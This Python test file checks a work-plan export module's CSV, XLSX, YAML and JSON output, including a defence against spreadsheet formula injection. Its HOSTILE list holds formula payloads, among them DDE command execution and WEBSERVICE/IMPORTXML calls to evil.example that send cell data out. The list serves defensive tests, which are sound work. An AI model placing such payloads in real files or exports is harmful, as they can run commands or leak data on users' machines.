import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from storage.files import plan_files
from storage.files.plan_export import Format, write
from tests.storage.a_plan import PLAN
from workplan import bodies, timeline
from workplan.member_states import MemberState
from workplan.plan import Activity, Deliverable, Metric, OutcomeMetric, Plan, PlanHead, Section

AS_AT = date(2023, 5, 15)

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","look")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example?v=", A1), "//a")',
    "=A1:A9",
    "=1\n=2",
    "=\t1",
    "=1;=2",
    '="a"',
    "=",
    "+1+1",
    "+49 30 1234",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "- a list",
    "-5%",
    "--",
    "@SUM(1+1)",
    "@everyone",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "=\u202e1",
    "=_x0041_1",
    "'\u00a0@A1",
    '=1","=2',
]


def filled_with(text: str) -> Plan:
    """Return a plan with a text wherever a file can bring one."""
    outcome = (OutcomeMetric(text, text, text, AS_AT, text),)
    activity = Activity(
        "A.1",
        text,
        f"{text}\n{text}",
        timeline.parse(text),
        f"{text} / ACCEC",
        bodies.parse(f"{text} / ACCEC"),
        (Metric(text, text, text, text, AS_AT, text, (MemberState("SG", evidence=text),)),),
        (Deliverable(text), Deliverable(f"{text} 2", AS_AT)),
        status_text=text,
        references=(text, text),
        source_note=text,
        evidence=(text, text),
    )
    section = Section("A", text, text, text, outcome, text)
    return Plan(PlanHead("ASEAN", text, text, text, outcome), (section,), (activity,))


def reloaded(path: Path, content: bytes) -> Plan:
    path.write_bytes(content)
    return plan_files.read(path).plan


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_csv_is_what_a_spreadsheet_would_run(text: str) -> None:
    content = write(filled_with(text), Format.CSV, AS_AT).decode()
    cells = [cell for row in csv.reader(io.StringIO(content, newline=""), strict=True) for cell in row]
    assert [cell for cell in cells if cell.strip()[:1] in set("=+-@\t\r\0＝＋－＠")] == []


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_workbook_is_a_formula(text: str) -> None:
    book = load_workbook(io.BytesIO(write(filled_with(text), Format.XLSX, AS_AT)))
    cells = [cell for row in book["Work plan"].iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "＝1"])
def test_a_cell_of_a_workbook_stays_a_text_when_somebody_edits_it(text: str) -> None:
    book = load_workbook(io.BytesIO(write(filled_with(text), Format.XLSX, AS_AT)))
    assert {cell.quotePrefix for row in book["Work plan"].iter_rows() for cell in row if cell.value == text} == {True}


@pytest.mark.parametrize("form", Format)
@pytest.mark.parametrize("text", HOSTILE)
def test_every_text_comes_back_as_it_left(tmp_path: Path, text: str, form: Format) -> None:
    plan = filled_with(text)
    assert reloaded(tmp_path / f"plan.{form}", write(plan, form, AS_AT)) == plan


@pytest.mark.parametrize("form", [Format.CSV, Format.YAML, Format.JSON])
def test_the_same_plan_is_written_in_the_same_bytes(form: Format) -> None:
    assert write(PLAN, form, AS_AT) == write(PLAN, form, AS_AT)


def test_json_alone_says_what_is_overdue_on_its_day() -> None:
    late = [
        [
            activity["code"]
            for activity in json.loads(write(PLAN, Format.JSON, day))["activities"]
            if activity["overdue"]
        ]
        for day in (date(2023, 6, 30), date(2023, 7, 1))
    ]
    assert late == [["B.1"], ["A.2.1.2", "B.1"]]


CSV = """\
code,title,description,timeline,bodies,metric,baseline,target,level,value,as_of,source,members,deliverable,due,state,done_on,status,status_text,last_update,references,source_note
ASEAN,Work Plan,To grow,,,% completed,,,plan,,,,,,,,,,,,,
A,Cross Border,,,,,,,workstream,,,,,,,,,,,,,
A.2,Paperless Trading,More of it,,,Coverage,5 AMS,,topic,,,,,,,,,,,,,A note
A.2.1,,,,,,,,objective,,,,,,,,,,,,,
A.2.1.1,Survey,Survey of traders,2022,ATFJCC,,,,,,,,,,,,,completed,,2023-01-31T08:00:00+00:00,,
A.2.1.2,Technical Study,Technical Study on interoperability,Annually by end H1 2023,ATFJCC in consultation with ASEAN Single Window Steering Committee (ASWSC),Study completed,0,,,,,,,Draft,2023-03-31,done,2023-03-30,in-progress,Draft circulated,2023-05-02T08:00:00+00:00,Article 7; Article 14,The annex prints AWS.
,,,,,Partners,0,3,,2,2023-05-01,ASW,SG; TH,Study,2023-06-30,,,,,,,
B,Behind the Border,,,,,,,workstream,,,,,,,,,,,,,
B.1,Report,,2021,,,,,,,,,,,,,,,,,,
B.2,Forum,Forum on logistics,in due course,ACCEC and ASWSC,,,,,,,,,,,,,on-hold,,,,
"""


def test_a_csv_has_a_row_for_each_metric_and_deliverable_and_columns_for_what_there_is() -> None:
    assert write(PLAN, Format.CSV, AS_AT).decode() == CSV


READ = """\
code,title,description,timeline,bodies,metric,baseline,target,level,value,as_of,source
TRADE,Work Plan,,,,,,,plan,,2023-01-31,
,,,,,% completed,0,,,40%,2022-12-31,Review
A,Trade,,,,Coverage,5 AMS,,topic,6 AMS,2023-05-15,Study
A.1,Forum,,,,,,,,,,
"""


def test_a_metric_of_the_plan_that_was_read_has_a_row_of_its_own_for_its_day() -> None:
    vision = (OutcomeMetric("% completed", "0", "40%", date(2022, 12, 31), "Review"),)
    head = PlanHead("TRADE", "Work Plan", vision_metrics=vision, as_of=date(2023, 1, 31))
    outcome = (OutcomeMetric("Coverage", "5 AMS", "6 AMS", AS_AT, "Study"),)
    plan = Plan(
        head,
        (Section("A", "topic", "Trade", None, outcome),),
        (Activity("A.1", "Forum", "Forum", timeline.parse(None)),),
    )
    assert write(plan, Format.CSV, AS_AT).decode() == READ
